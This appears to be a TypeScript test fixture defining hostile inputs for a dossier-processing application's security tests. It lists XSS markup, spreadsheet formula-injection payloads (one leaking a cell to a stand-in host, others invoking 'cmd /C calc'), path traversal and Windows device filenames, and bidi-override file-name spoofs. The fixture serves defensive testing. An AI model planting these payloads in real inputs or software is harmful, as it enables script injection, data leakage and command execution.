/**
 * What an ill-meaning usager can put in a dossier, for the hostile dossier the admin endpoint adds
 * on demand (`addDossier({ hostile: true })`): markup that would run if anyone inserted it as HTML
 * (it sets `window.__pwned`), spreadsheet formulas, a 1 MB value, bidi overrides and zero-width
 * characters, and attachment names aimed at file systems. DS stores all of it as typed; what it does
 * to file names on the way out is {@link activeStorageFilename}.
 */

/** Set by any of the markup below if it ever runs. */
export const PWNED_GLOBAL = '__pwned';

export const HOSTILE_MARKUP = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=1">',
  '"><svg onload=window.__pwned=1>',
] as const;

/** Cell starts a spreadsheet would run (OWASP's CSV injection list). */
export const HOSTILE_FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez ici")',
  '+1+1',
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+2',
  '\r=1+2',
] as const;

/** A right-to-left override (« exe.fdp » reads as « pdf.exe ») and zero-width characters. */
export const HOSTILE_INVISIBLE = ['Facture \u202Egnp.exe', 'zé\u200Bro\u200Dlar\uFEFFgeur'] as const;

/** Every hostile text value, one per repetition row of the hostile dossier. */
export const HOSTILE_TEXTS: readonly string[] = [...HOSTILE_MARKUP, ...HOSTILE_FORMULAS, ...HOSTILE_INVISIBLE];

/** The demandeur's names: a formula start (uppercase-proof, as DS's owner name capitalises the nom) and markup. */
export const HOSTILE_NOM = '=HYPERLINK("https://evil.example","VOIR")';
export const HOSTILE_PRENOM = `${HOSTILE_MARKUP[0]}${HOSTILE_MARKUP[1]}`;
export const HOSTILE_RAISON_SOCIALE = `=cmd|' /C calc'!A0 ${HOSTILE_MARKUP[0]}${HOSTILE_MARKUP[2]}`;

export const MEGABYTE = 1024 * 1024;

/**
 * A value of exactly 1 MiB (ASCII), markup first, then words (so DS's PDF can wrap it), with a
 * formula start inside that must stay text.
 */
export function megabyteValue(): string {
  const head = `${HOSTILE_MARKUP[1]} `;
  const words = 'Lorem ipsum dolor sit amet =1+1 consectetur adipiscing elit. ';
  const body = words.repeat(Math.ceil(MEGABYTE / words.length));
  return `${head}${body}`.slice(0, MEGABYTE - 4).concat(' FIN');
}

/**
 * Attachment names as the usager's browser sent them: traversal, absolute paths, Windows device
 * names, 300 characters, a duplicate, bidi and zero-width characters, markup.
 */
export const HOSTILE_FILENAMES: readonly string[] = [
  '../../evil.pdf',
  '/etc/passwd',
  'C:\\Windows\\x.pdf',
  'CON',
  'aux.pdf',
  'nul.txt',
  `${'a'.repeat(296)}.pdf`,
  'doublon.pdf',
  'doublon.pdf',
  '\u202Efdp.exe',
  'fac\u200Bture\u200D\uFEFF\u2067fdp.exe',
  `${HOSTILE_MARKUP[1]}.pdf`,
];

/** The usager's message on the hostile dossier, and its attachment's name. */
export const HOSTILE_MESSAGE_BODY = `<b>Bonjour</b>${HOSTILE_MARKUP[0]}${HOSTILE_MARKUP[1]}\n=1+1 \u202Eexe.fdp\u200B fin`;
export const HOSTILE_MESSAGE_FILENAME = `..\\..\\${HOSTILE_MARKUP[2]}.pdf`;

/**
 * A blob's name as DS gives it everywhere (API `filename`, pages, ZIP names): Rails'
 * `ActiveStorage::Filename#to_s` (`sanitized`): surrounding whitespace stripped, U+202E, `%`, `$`,
 * `|`, `:`, `;`, `/`, tab, CR, LF and `\` replaced by `-`. Zero-width characters, other bidi marks,
 * `..`, device names and lengths go through as typed.
 */
export function activeStorageFilename(raw: string): string {
  // Ruby's `strip`: ASCII whitespace and NUL only (not U+FEFF nor NBSP, which JS's trim takes).
  return raw.replace(/^[\0\t\n\v\f\r ]+|[\0\t\n\v\f\r ]+$/g, '').replace(/[\u202E%$|:;/\t\r\n\\]/g, '-');
}
